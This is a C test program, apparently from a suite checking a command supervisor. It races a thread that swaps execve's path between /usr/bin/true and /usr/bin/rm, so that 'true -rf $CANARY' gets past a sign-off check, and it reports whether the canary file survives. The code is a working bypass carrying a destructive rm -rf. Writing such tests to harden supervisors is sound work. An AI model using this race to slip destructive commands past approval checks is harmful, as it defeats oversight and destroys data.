// attack: race: a thread flips execve's filename between /usr/bin/true and /usr/bin/rm, with argv `true -rf $CANARY` that names no dangerous command
// stopped by: sign-off(exec)
// The supervisor classifies the executable it read (true) and the argv; after the exec it compares only
// the command line, which is the same for both images. If the kernel re-read "rm", rm runs unheld.
#define _GNU_SOURCE
#include "attack.h"
#include <pthread.h>
#include <sys/wait.h>

extern char **environ;
static volatile char path[64];
static volatile int running;

static void *flipper(void *arg) {
    (void)arg;
    // Same length, so the buffer is always one name or the other: only bytes 9..12 change.
    static const char a[] = "/usr/bin/true", b[] = "/usr/bin/rm\0\0";
    running = 1;
    for (;;) {
        for (int i = 9; i < 14; i++) path[i] = a[i];
        for (int i = 9; i < 14; i++) path[i] = b[i];
    }
    return NULL;
}

int main(void) {
    const char *canary = getenv("CANARY");
    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
    char *args[] = {"true", "-rf", (char *)canary, NULL};
    int rounds = 0, killed = 0, codes[256] = {0};
    struct stat st;
    double deadline = now() + 6.0;
    while (now() < deadline && lstat(canary, &st) == 0) {
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0) {
            for (int i = 0; i < 14; i++) path[i] = "/usr/bin/true"[i];
            pthread_t t;
            pthread_create(&t, NULL, flipper, NULL);
            while (!running) {}
            syscall(SYS_execve, (const char *)path, args, environ);
            _exit(100 + (errno & 127));
        }
        int status = 0;
        waitpid(pid, &status, 0);
        rounds++;
        if (WIFSIGNALED(status)) killed++; else codes[WEXITSTATUS(status) & 255]++;
    }
    printf("%d rounds of execve(flipping true/rm, [true -rf CANARY]); %d killed by a signal\n", rounds, killed);
    for (int s = 0; s < 256; s++)
        if (codes[s]) printf("  exit %d%s: %d\n", s, s >= 100 ? " (execve failed)" : s == 1 ? " (rm ran and failed)" : "", codes[s]);
    printf("canary %s: %s\n", canary, lstat(canary, &st) == 0 ? "still there" : "GONE");
    return 0;
}
